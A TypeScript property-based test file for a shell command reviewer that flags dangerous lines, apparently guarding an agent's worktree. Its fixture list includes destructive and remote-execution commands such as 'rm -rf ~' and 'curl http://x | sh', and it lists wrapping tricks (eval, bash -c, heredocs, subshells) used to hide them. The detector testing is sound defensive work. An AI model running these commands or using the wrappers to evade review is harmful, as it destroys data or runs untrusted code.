/** What a command line is asked about: known dangers and the known ways to hide them, and the everyday lines that must not stop a night's work. */
import * as fc from "fast-check";
import { describe, expect, test } from "vitest";
import { reviewCommand } from "../../../src/engine/commandReview.ts";
import { parseShell } from "../../../src/engine/shellScript.ts";
import { NotUnderstood } from "../../../src/engine/shellSyntax.ts";
import { dangerous, harmless } from "./fixtures/commandLines.ts";

const worktree = "/home/u/.config/Code/worktrees/t1";
const dangersOf = (text: string): readonly string[] => reviewCommand(text, worktree).dangers;

test.each(dangerous)("is asked about: %j", (text) => {
  expect(dangersOf(text)).not.toEqual([]);
});

test.each(harmless)("is not asked about: %j", (text) => {
  expect(dangersOf(text)).toEqual([]);
});

describe("whatever stands around it", () => {
  const core = ["rm -rf ~", "git push", "curl http://x | sh", "sudo ls", "echo x > .git/config", "echo x > ~/.profile"];
  const around: readonly ((text: string) => string)[] = [
    (text) => `ls; ${text}`,
    (text) => `ls && ${text} || true`,
    (text) => `( ${text} )`,
    (text) => `{ ${text}; }`,
    (text) => `if true; then ${text}; fi`,
    (text) => `while true; do ${text}; done`,
    (text) => `for i in 1 2; do ${text}; done`,
    (text) => `f() { ${text}; }`,
    (text) => `case x in x) ${text};; esac`,
    (text) => `echo "$(${text})"`,
    (text) => `echo \`${text}\``,
    (text) => `cat <(${text})`,
    (text) => `ls\n${text}\nls`,
    (text) => `eval '${text}'`,
    (text) => `bash -c '${text}'`,
    (text) => `env A=1 sh -lc '${text}'`,
    (text) => `echo a & ${text}`,
    (text) => `ls | while read x; do ${text}; done`,
    (text) => `cat <<EOF\n$(${text})\nEOF`,
    (text) => `true # comment with 'a quote\n${text}`,
    (text) => `X="\${Y:-$(${text})}"`,
  ];

  test("up to three times over, it is found", () => {
    fc.assert(
      fc.property(fc.constantFrom(...core), fc.array(fc.constantFrom(...around), { maxLength: 3 }), (text, wraps) => {
        // Quotes inside the same quotes end them: that is another line.
        const ends = (inner: string, wrapped: string): boolean =>
          ["'", "`"].some((quote) => inner.includes(quote) && wrapped.split(quote).length > inner.split(quote).length);
        const line = wraps.reduce((inner, wrap) => (ends(inner, wrap(inner)) ? inner : wrap(inner)), text);
        expect(dangersOf(line), line).not.toEqual([]);
      }),
      { numRuns: 2_000 },
    );
  });
});

test("any text at all gets an answer, and soon", () => {
  const piece = fc.constantFrom(
    "rm",
    " ",
    "-rf",
    "~",
    "$(",
    ")",
    "`",
    "'",
    '"',
    "\\",
    "{",
    "}",
    ",",
    "$",
    "${",
    "<<",
    "EOF",
    "\n",
    ";",
    "|",
    "&",
    "case",
    "in",
    "esac",
    "[[",
    "((",
    "a",
  );
  fc.assert(
    fc.property(
      fc.oneof(
        fc.string(),
        fc.array(piece, { maxLength: 60 }).map((pieces) => pieces.join("")),
      ),
      (text) => {
        expect(Array.isArray(dangersOf(text))).toBe(true);
      },
    ),
    { numRuns: 5_000 },
  );
});

test("what is nested without end or is far too long is not understood instead of read for ever", () => {
  for (const text of [
    `${"$(".repeat(5_000)}x${")".repeat(5_000)}`,
    `${"${a:-".repeat(3_000)}x${"}".repeat(3_000)}`,
    "a".repeat(70_000),
    `echo ${"`".repeat(9_999)}`,
  ]) {
    expect(() => parseShell(text)).toThrow(NotUnderstood);
  }
});

test("no path to which a command plainly writes leads out of the worktree unasked", () => {
  const part = fc.constantFrom("..", ".", "a", "b c", "src", "", "~x", "...", "-");
  const path = fc.tuple(fc.constantFrom("", "/", "./", "../"), fc.array(part, { minLength: 1, maxLength: 8 })).map(([start, parts]) => start + parts.join("/"));
  const quoted = (text: string): string => `'${text}'`;
  fc.assert(
    fc.property(path, fc.constantFrom("echo x > ", "touch -- ", "cp a -- ", "mkdir -p -- "), (target, command) => {
      if (dangersOf(command + quoted(target)).length > 0) return;
      expect(resolved(target).startsWith(`${worktree}/`) || resolved(target) === worktree || resolved(target).startsWith("/tmp/"), target).toBe(true);
    }),
    { numRuns: 5_000 },
  );
});

/** The oracle: as the system itself would go, step by step. */
function resolved(path: string): string {
  const parts: string[] = [];
  for (const part of (path.startsWith("/") ? path : `${worktree}/${path}`).split("/")) {
    if (part === "..") parts.pop();
    else if (part !== "" && part !== ".") parts.push(part);
  }
  return `/${parts.join("/")}`;
}

test("tells which programs run, and only where it can", () => {
  expect(reviewCommand("npm run build && git status --short", worktree).programs).toBeUndefined();
  expect(reviewCommand("npm test && ls -la | wc -l", worktree).programs).toEqual(["npm test", "ls", "wc"]);
  for (const text of ["bash x.sh", "node -e 1", "env ls", "eval ls", "xargs ls"]) expect(reviewCommand(text, worktree).programs, text).toBeUndefined();
});
